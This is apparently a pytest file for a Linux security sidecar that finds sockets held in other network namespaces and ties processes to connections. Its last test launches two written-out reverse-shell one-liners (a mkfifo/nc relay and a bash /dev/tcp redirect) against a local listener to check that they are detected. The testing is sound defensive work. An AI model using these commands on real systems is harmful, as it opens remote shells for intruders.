"""Sockets of other network namespaces: found by their holders, by the tie tracker too, and nothing kept alive by it."""

import os
import signal
import socket
import subprocess
import time
from contextlib import suppress

import pytest
from many_networks import CLIENT, LISTENER, until

from outrider_sidecar.linux import namespace_sockets
from outrider_sidecar.linux.execfacts import FactReader
from outrider_sidecar.linux.namespace_sockets import NamespaceSockets
from outrider_sidecar.linux.netns import network_of, own_network
from outrider_sidecar.linux.procfs import read_descriptors, read_stat
from outrider_sidecar.sensors.holdings import look_at
from outrider_sidecar.world.shells import Shells
from outrider_sidecar.world.ties import TieTracker
from outrider_sidecar.world.tree import ProcessTree
from outrider_wire.errors import ProcessGone, Unavailable


def sockets_of(pid):
    return [d.inode for d in read_descriptors(pid) if d.target.startswith("socket:[")]


@pytest.fixture
def sockets():
    opened = NamespaceSockets()
    yield opened
    opened.close()


def test_sockets_are_found_where_their_holders_are(fresh, sockets):
    """One question about processes of three namespaces, one's own among them; the thread is at home afterwards."""
    rooms, home = [fresh(), fresh()], own_network()
    clients = []
    for room in rooms:
        room.python(LISTENER, "127.0.0.1", "7001")
        clients.append(room.python(CLIENT, "127.0.0.1", "7001"))
    with socket.create_server(("127.0.0.1", 0)) as server:
        mine = os.fstat(server.fileno()).st_ino
        inodes = [inode for client in clients for inode in sockets_of(client.pid)]
        found = sockets.find([*inodes, mine], [*(client.pid for client in clients), os.getpid()])
        assert sockets.find([mine])[mine].state == "LISTEN"
    assert set(inodes) | {mine} == found.keys()
    assert [(found[inode].remote_port, found[inode].direction) for inode in inodes] == [(7001, "outbound")] * 2
    assert not sockets.find(inodes)
    assert own_network() == home


def test_the_kernel_tells_who_spoke_last(fresh, sockets):
    """Of a connection where it is: nobody at first, then whoever sent data after the other did."""
    with socket.create_server(("127.0.0.1", 0)) as server, socket.create_connection(server.getsockname()) as ours:
        theirs, _ = server.accept()
        inode = os.fstat(ours.fileno()).st_ino
        connection = sockets.find([inode])[inode]

        def spoke_last():
            return sockets.spoke_last(connection, os.getpid())

        assert not spoke_last()
        ours.sendall(b"what is it?")
        theirs.recv(64)
        assert not spoke_last()
        assert not sockets.has_heard(connection, os.getpid())
        time.sleep(0.02)
        theirs.sendall(b"this")
        ours.recv(64)
        assert not spoke_last()
        assert sockets.has_heard(connection, os.getpid())
        time.sleep(0.02)
        ours.sendall(b"thanks")
        theirs.recv(64)
        until(spoke_last)
        theirs.close()
    assert not spoke_last()
    assert not sockets.spoke_last(connection, fresh().pid)
    assert sockets.has_heard(connection, fresh().pid)  # nobody can tell


def test_a_holder_that_is_gone_finds_nothing(fresh, sockets):
    """Nobody leads to the namespace any more: what was there is not found, and nothing is raised."""
    room = fresh()
    room.python(LISTENER, "127.0.0.1", "7011")
    client = room.python(CLIENT, "127.0.0.1", "7011")
    inodes = sockets_of(client.pid)
    client.kill()
    client.wait()
    assert sockets.find(inodes, [client.pid]) == {}


def test_a_namespace_that_may_not_be_entered_is_read_by_proc(fresh, sockets, monkeypatch):
    """The lists under a member's /proc/PID/net tell the same."""

    def refuse(*_, **__):
        raise Unavailable("no")

    monkeypatch.setattr(namespace_sockets, "entered", refuse)
    room = fresh()
    room.python(LISTENER, "127.0.0.1", "7021")
    client = room.python(CLIENT, "127.0.0.1", "7021")
    (facts,) = sockets.find(sockets_of(client.pid), [client.pid]).values()
    assert (facts.remote_port, facts.direction) == (7021, "outbound")


def test_a_question_keeps_no_namespace_alive(fresh, sockets):
    """Its end of a pair is taken down when its last process ends, though its sockets were asked for."""
    room, other = fresh(), fresh()
    other.run("ip", "link", "add", "near1", "type", "veth", "peer", "name", "far1", "netns", str(room.pid))
    room.python(LISTENER, "127.0.0.1", "7031")
    client = room.python(CLIENT, "127.0.0.1", "7031")
    assert sockets.find(sockets_of(client.pid), [client.pid])
    room.close()
    until(lambda: other.run("ip", "link", "show", "near1", check=False).returncode != 0)


RELAYED = "rm -f {fifo}; mkfifo {fifo}; sh <{fifo} 2>&1 | nc.openbsd 127.0.0.1 {port} >{fifo}"
DIRECT = "exec 9<>/dev/tcp/127.0.0.1/{port}; exec sh <&9 >&9 2>&9"


def descendants(pid):
    """The processes below one, as the kernel tells."""
    found = []
    with suppress(OSError), open(f"/proc/{pid}/task/{pid}/children") as children:
        for child in map(int, children.read().split()):
            found += [child, *descendants(child)]
    return found


@pytest.mark.parametrize(("command", "tie"), [(DIRECT, "socket"), (RELAYED, "pipe-through-relay")])
def test_a_reverse_shell_in_another_namespace_is_tied(fresh, sockets, tmp_path, command, tie):
    """The tracker looks at the shell's own, and finds the connection in their namespace."""
    room = fresh()
    room.python(LISTENER, "127.0.0.1", "7041")
    script = command.format(fifo=tmp_path / "fifo", port=7041)
    shell = subprocess.Popen(room.inside("bash", "-c", script), start_new_session=True, stdin=subprocess.DEVNULL)
    mnt_ns = os.stat(f"/proc/{shell.pid}/ns/mnt").st_ino
    asked = []

    def near(of):
        asked.append(of)
        return {mnt_ns}

    try:
        tree, reader = ProcessTree(), FactReader(find_sockets=sockets.find)
        shells = Shells(lambda _: "", lambda _: frozenset())
        ties = TieTracker(tree, shells, lambda who: look_at(who, sockets.find), clock=time.monotonic, near=near)
        told = []

        def look():
            for pid in (shell.pid, *descendants(shell.pid)):
                with suppress(ProcessGone, FileNotFoundError):  # it ended while it was looked at
                    process = read_stat(pid).process
                    if tree.get(process) is None or tree.get(process).exe.path != os.readlink(f"/proc/{pid}/exe"):
                        event = reader.read(pid, parent=None, seen="found")
                        told.extend(ties.executed(tree.execute(event), time.time_ns()))
            told.extend(ties.tick(time.time_ns()))
            return [event for event in told if event.tie == tie]

        until(look)
    finally:
        os.killpg(shell.pid, signal.SIGKILL)
        shell.wait()
    event = look_first(told, tie)
    assert (event.remote, event.remote_port) == ("127.0.0.1", 7041)
    assert network_of(room.pid) != own_network()


def look_first(told, tie):
    return next(event for event in told if event.tie == tie)
